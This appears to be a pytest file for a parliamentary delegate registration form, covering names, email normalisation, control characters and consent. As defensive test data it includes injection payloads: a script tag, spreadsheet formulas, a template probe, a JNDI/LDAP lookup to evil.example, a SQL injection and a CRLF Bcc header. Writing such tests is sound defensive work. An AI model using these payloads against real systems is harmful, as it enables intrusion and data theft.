"""What a delegate may type, and what is refused with a word on what to do about it."""

from typing import Any

import pytest
from pydantic import ValidationError

from functions.domain.registration import Role
from functions.domain.submission import FieldProblem, Submission, problems

FILLED: dict[str, Any] = {
    "title": "Ms",
    "given_names": "Anna",
    "family_names": "Ñandú O'Brien",
    "email": "anna@parliament.aruvia.example",
    "organisation": "aruvia",
    "role": "member",
    "language": "fr",
    "consent": True,
}


def refusals(**changes: Any) -> list[FieldProblem]:
    with pytest.raises(ValidationError) as refused:
        Submission.model_validate(FILLED | changes)
    return problems(refused.value)


def accepted(**changes: Any) -> Submission:
    return Submission.model_validate(FILLED | changes)


def test_the_optional_answers_may_be_left_out() -> None:
    submission = accepted()

    assert (submission.role, submission.sharing, submission.access_needs) == (Role.MEMBER, "", "")
    assert submission.invitation_code == ""


@pytest.mark.parametrize(
    "name",
    [
        "O'Brien",
        "Ñandú",
        "李",
        "عمر",
        "می‌خواهم",
        "Nguyễn",
        "שָׁלוֹם",
        "<script>alert(1)</script>",
        '=HYPERLINK("https://evil.example")',
        "+1",
        "-",
        "@SUM(A1)",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "' OR 1=1--",
    ],
)
def test_any_script_and_any_markup_is_kept_unchanged(name: str) -> None:
    assert accepted(family_names=name, sharing=name).family_names == name


@pytest.mark.parametrize(
    "text",
    [
        "Anna\x00",
        "Anna\x07",
        "Anna\tMaria",
        "\u202eannA",
        "Anna\u2066",
        "An\u2028na",
        "An\u2029na",
        "An\x85na",
        "A\U000e0041nna",
        "A" + "\u0301" * 20,
        "\ud800",
    ],
)
@pytest.mark.parametrize("field", ["title", "given_names", "family_names", "email", "organisation", "sharing"])
def test_text_that_hides_or_forges_is_refused_beside_its_field(field: str, text: str) -> None:
    assert [problem.field for problem in refusals(**{field: text})] == [field]


@pytest.mark.parametrize("text", ["Anna\r\nBcc: all@parliament.example", "Anna\n", "\rAnna"])
@pytest.mark.parametrize(
    "field", ["title", "given_names", "family_names", "email", "organisation", "language", "invitation_code"]
)
def test_a_line_break_never_enters_a_field_of_one_line(field: str, text: str) -> None:
    assert [problem.field for problem in refusals(**{field: text})] == [field]


@pytest.mark.parametrize(
    ("field", "limit"), [("title", 40), ("given_names", 64), ("family_names", 64), ("sharing", 2_000)]
)
def test_a_text_may_be_as_long_as_its_limit_and_no_longer(field: str, limit: int) -> None:
    assert getattr(accepted(**{field: "李" * limit}), field) == "李" * limit
    assert [problem.field for problem in refusals(**{field: "李" * (limit + 1)})] == [field]


@pytest.mark.parametrize("field", sorted(FILLED))
def test_a_field_left_out_is_named(field: str) -> None:
    with pytest.raises(ValidationError) as refused:
        Submission.model_validate({name: value for name, value in FILLED.items() if name != field})

    assert [problem.field for problem in problems(refused.value)] == [field]


@pytest.mark.parametrize("text", ["", "   ", "\u200b", "\u00a0\u200f"])
def test_a_name_that_nobody_can_see_is_no_name(text: str) -> None:
    assert refusals(family_names=text) == [FieldProblem("family_names", "Enter your family names")]


@pytest.mark.parametrize("yes", [False, None, 1, "yes", "true", "on"])
def test_only_a_plain_yes_is_consent(yes: object) -> None:
    assert [problem.field for problem in refusals(consent=yes)] == ["consent"]


def test_a_field_that_the_form_does_not_have_is_named() -> None:
    assert [problem.field for problem in refusals(status="CONFIRMED")] == ["status"]


def test_a_field_whose_name_is_markup_is_refused_without_repeating_it() -> None:
    assert [problem.field for problem in refusals(**{"<script>": "x"})] == [""]


@pytest.mark.parametrize("value", [5, True, ["Anna"], {"given": "Anna"}, None])
def test_what_is_not_text_is_no_name(value: object) -> None:
    assert [problem.field for problem in refusals(given_names=value)] == ["given_names"]


@pytest.mark.parametrize(
    "typed",
    [
        "Anna@Parliament.Aruvia.Example",
        "  anna@parliament.aruvia.example ",
        "ａｎｎａ＠ｐａｒｌｉａｍｅｎｔ．ａｒｕｖｉａ．ｅｘａｍｐｌｅ",
        "anna@parliament。aruvia。example",
        "anna@parlia\u00adment.aruvia.example",
        "anna@parlia\u200bment.aruvia.example",
        "\u200eanna@parliament.aruvia.example\u200f",
        "\ufeffanna@parliament.aruvia.example\t",
    ],
)
def test_however_an_address_is_typed_it_is_one_identity(typed: str) -> None:
    assert accepted(email=typed).email == "anna@parliament.aruvia.example"


def test_an_address_that_is_longer_than_zoom_takes_is_told_so() -> None:
    domain = f"{'a' * 60}.{'b' * 54}.example"
    assert accepted(email=f"anna@{domain}").email == f"anna@{domain}"
    [problem] = refusals(email=f"annab@{domain}")
    assert (problem.field, "128 characters" in problem.message) == ("email", True)


def test_the_tab_of_a_cell_does_not_come_along() -> None:
    assert accepted(family_names="\tQuispe \t").family_names == "Quispe"


def test_an_internationalised_domain_is_known_by_its_ascii_name() -> None:
    assert accepted(email="anna@München.example").email == "anna@xn--mnchen-3ya.example"
    assert accepted(email="anna@xn--mnchen-3ya.example").email == "anna@xn--mnchen-3ya.example"


def test_a_domain_that_only_looks_alike_is_another_domain() -> None:
    assert accepted(email="anna@pаrliament.example").email.startswith("anna@xn--")


@pytest.mark.parametrize(
    "typed",
    [
        "аnna@parliament.example",
        "josé@parliament.example",
        "a..b@x.example",
        ".a@x.example",
        "a" * 65 + "@x.example",
    ],
)
def test_a_local_part_that_cannot_be_mailed_is_told_so(typed: str) -> None:
    assert refusals(email=typed) == [FieldProblem("email", "This address cannot receive our mail")]


@pytest.mark.parametrize(
    "typed",
    [
        "anna@a.example, ben@b.example",
        "anna@a.example;ben@b.example",
        "anna@a.example ben@b.example",
        "Anna <anna@a.example>",
        "anna",
        "anna@",
        "@a.example",
        "anna@@a.example",
        "anna@localhost",
        "anna@127.0.0.1",
        "anna@[127.0.0.1]",
        "anna@a.example.",
        "anna@a_b.example",
        "anna@-a.example",
        "anna@a..example",
        "mailto:anna@a.example",
        '"anna maria"@a.example',
    ],
)
def test_only_one_plain_address_is_an_address(typed: str) -> None:
    assert [problem.field for problem in refusals(email=typed)] == ["email"]


def test_an_address_with_an_apostrophe_or_a_tag_is_fine() -> None:
    assert accepted(email="o'brien+rollcall@a.example").email == "o'brien+rollcall@a.example"


def test_no_refusal_repeats_what_was_sent() -> None:
    with pytest.raises(ValidationError) as refused:
        Submission.model_validate(FILLED | {"email": "secret person <x>", "title": "secret\x00", "role": "secret"})

    assert "secret" not in str(refused.value)
    assert "secret" not in repr(problems(refused.value))


def test_an_invitation_code_is_not_shown_where_a_submission_is_written_out() -> None:
    assert "PANEL" not in repr(accepted(invitation_code="PANEL-2026"))


def test_line_breaks_of_a_text_area_are_kept_as_single_ones() -> None:
    assert accepted(sharing="One\r\nTwo\nThree").sharing == "One\nTwo\nThree"


def test_a_lone_carriage_return_is_a_control_character_even_in_a_text_area() -> None:
    assert [problem.field for problem in refusals(access_needs="One\rTwo")] == ["access_needs"]
